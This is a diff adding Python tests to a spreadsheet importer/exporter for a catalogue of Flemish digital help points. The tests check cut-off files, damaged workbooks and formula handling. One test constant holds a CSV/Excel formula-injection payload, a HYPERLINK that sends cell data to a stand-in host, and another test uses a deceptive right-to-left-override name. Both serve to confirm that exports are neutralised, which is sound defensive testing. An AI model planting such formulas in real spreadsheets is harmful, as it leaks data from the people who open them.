@@ -223,3 +223,145 @@ def test_any_cell_text_is_a_problem_never_a_crash(tmp_path, catalogue, cells):
     path.write_text(buf.getvalue(), encoding="utf-8")
     for p in check_read(sp.read_spreadsheet(path), catalogue.gazetteer):
         assert p.where.startswith("fuzz.csv") and p.reason
+
+
+# -- issue 15: cut-off files, formulas, damaged workbooks, may_have_ended ----------------------
+
+
+def test_a_cut_off_last_row_is_never_imported(tmp_path):
+    good = write(tmp_path, f"{HEADER}\nDigipunt A,digipunt,8730,Beernem,050 12 34 56,"
+                           "ma 09:00-12:00,https://www.beernem.be\n")
+    raw = good.read_bytes()
+    cut = write(tmp_path, raw[: raw.index(b"050 12") + 3].decode(), name="cut.csv")
+    found = problems(cut)
+    assert found == ["cut.csv row 2: is cut off: it has 5 of the 7 cells and the file ends in "
+                     "it (save the file again)"]
+    assert sp.read_spreadsheet(cut).records == []
+    quoted = write(tmp_path, f'{HEADER}\n"Digipunt A,digipunt', name="quote.csv")
+    assert problems(quoted) == ["quote.csv: row 2: the file ends inside a quoted cell: it was "
+                                "cut off; save it again"]
+
+
+EVIL = '=HYPERLINK("http://x.invalid/?"&A1,"Klik hier")'
+
+
+def evil_record():
+    r = load_record(ROOT / "data" / "services" / "beernem-covias-digipunt.toml")
+    return replace(r, name=EVIL, description="+32 is het landnummer", alert="@balie",
+                   audience="'tussen quotes'", hours_text="-1 uur", may_have_ended=True)
+
+
+def test_the_csv_template_never_holds_a_live_formula_and_reads_back_the_same(tmp_path):
+    r = evil_record()
+    sp.write_csv([r], tmp_path / "out.csv")
+    text = (tmp_path / "out.csv").read_text(encoding="utf-8-sig")
+    import csv as _csv
+
+    for row in _csv.reader(text.splitlines()):
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    assert "'=HYPERLINK(" in text and "mogelijk_gestopt" in text.splitlines()[0]
+    [back] = sp.read_spreadsheet(tmp_path / "out.csv").records
+    assert back == r
+
+
+def test_the_xlsx_template_holds_text_cells_never_formulas(tmp_path):
+    r = evil_record()
+    sp.write_xlsx([r], tmp_path / "out.xlsx")
+    wb = openpyxl.load_workbook(tmp_path / "out.xlsx")
+    ws = wb["aanbod"]
+    header = [c.value for c in ws[1]]
+    name = ws.cell(2, header.index("naam") + 1)
+    assert name.value == EVIL and name.data_type == "s" and name.quotePrefix
+    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
+    wb.close()
+    [back] = sp.read_spreadsheet(tmp_path / "out.xlsx").records
+    assert back == r
+
+
+def _workbook_with(tmp_path, cells: dict, name="f.xlsx") -> Path:
+    wb = openpyxl.Workbook()
+    ws = wb.active
+    ws.title = "aanbod"
+    for col, header in enumerate(["naam", "soort", "postcode", "gemeente", "bron_url"], 1):
+        ws.cell(1, col, header)
+    values = {"naam": "Digipunt Formule", "soort": "digipunt", "postcode": "8730",
+              "gemeente": "Beernem", "bron_url": "https://www.beernem.be", **cells}
+    for col, header in enumerate(["naam", "soort", "postcode", "gemeente", "bron_url"], 1):
+        ws.cell(2, col, values[header])
+    path = tmp_path / name
+    wb.save(path)
+    return path
+
+
+def test_a_formula_from_another_workbook_is_refused_not_read_as_text(tmp_path):
+    path = _workbook_with(tmp_path, {"naam": "='[1]Adressen'!A2"})
+    assert problems(path) == [
+        "f.xlsx (aanbod) row 2: naam: is a formula that takes its value from another workbook "
+        "(='[1]Adressen'!A2); type or paste the value itself"]
+    path = _workbook_with(tmp_path, {"gemeente": '=UPPER("beernem")'}, name="g.xlsx")
+    assert problems(path) == [
+        "g.xlsx (aanbod) row 2: gemeente: is a formula without a computed value "
+        "(=UPPER(\"beernem\")); paste the values instead"]
+
+
+@pytest.mark.parametrize("damage", ["truncated", "garbage", "no_sheet_xml", "not_zip"])
+def test_a_damaged_workbook_is_one_clear_message(tmp_path, damage):
+    import zipfile
+
+    good = _workbook_with(tmp_path, {})
+    raw = good.read_bytes()
+    bad = tmp_path / "bad.xlsx"
+    if damage == "truncated":
+        bad.write_bytes(raw[: len(raw) // 2])
+    elif damage == "garbage":
+        with zipfile.ZipFile(good) as zin, zipfile.ZipFile(bad, "w") as zout:
+            for n in zin.namelist():
+                zout.writestr(n, zin.read(n) if "sheet1" not in n else b"<not xml")
+    elif damage == "no_sheet_xml":
+        with zipfile.ZipFile(good) as zin, zipfile.ZipFile(bad, "w") as zout:
+            for n in zin.namelist():
+                if "worksheets/" not in n:
+                    zout.writestr(n, zin.read(n))
+    else:
+        bad.write_bytes(b"PK\x03\x04 not really a zip")
+    [p] = problems(bad)
+    assert p.startswith("bad.xlsx: ") and ("Excel workbook" in p or "sheet" in p), p
+
+
+def test_a_workbook_without_a_worksheet_says_so(tmp_path):
+    import zipfile
+
+    good = _workbook_with(tmp_path, {})
+    bad = tmp_path / "empty.xlsx"
+    with zipfile.ZipFile(good) as zin, zipfile.ZipFile(bad, "w") as zout:
+        for n in zin.namelist():
+            data = zin.read(n)
+            if n == "xl/workbook.xml":
+                import re as _re
+
+                data = _re.sub(rb"<sheets>.*</sheets>", b"<sheets/>", data)
+            zout.writestr(n, data)
+    [p] = problems(bad)
+    assert p.startswith("empty.xlsx: ") and "sheet" in p
+
+
+def test_may_have_ended_is_a_column(tmp_path):
+    path = write(tmp_path, "naam,soort,postcode,gemeente,bron_url,mogelijk_gestopt\n"
+                           "A,digipunt,8730,Beernem,https://a.be,ja\n"
+                           "B,digipunt,8730,Beernem,https://b.be,\n"
+                           "C,digipunt,8730,Beernem,https://c.be,misschien\n")
+    read = sp.read_spreadsheet(path)
+    assert [r.may_have_ended for r in read.records[:2]] == [True, False]
+    assert [str(p) for p in read.problems] == [
+        "aanbod.csv row 4: mogelijk_gestopt: 'misschien': write ja, or leave it empty"]
+
+
+def test_a_name_with_an_rtl_override_or_a_control_character_is_refused(tmp_path):
+    path = write(tmp_path, f"{HEADER}\nDigipunt \u202e0 50 21 05,digipunt,8730,Beernem,,,"
+                           "https://a.be\nDigi\x01punt,digipunt,8730,Beernem,,,https://b.be\n")
+    found = problems(path)
+    assert any(f.startswith("aanbod.csv row 2: naam: contains an invisible right-to-left")
+               for f in found), found
+    assert any(f.startswith("aanbod.csv row 3: naam: contains a control character")
+               for f in found), found
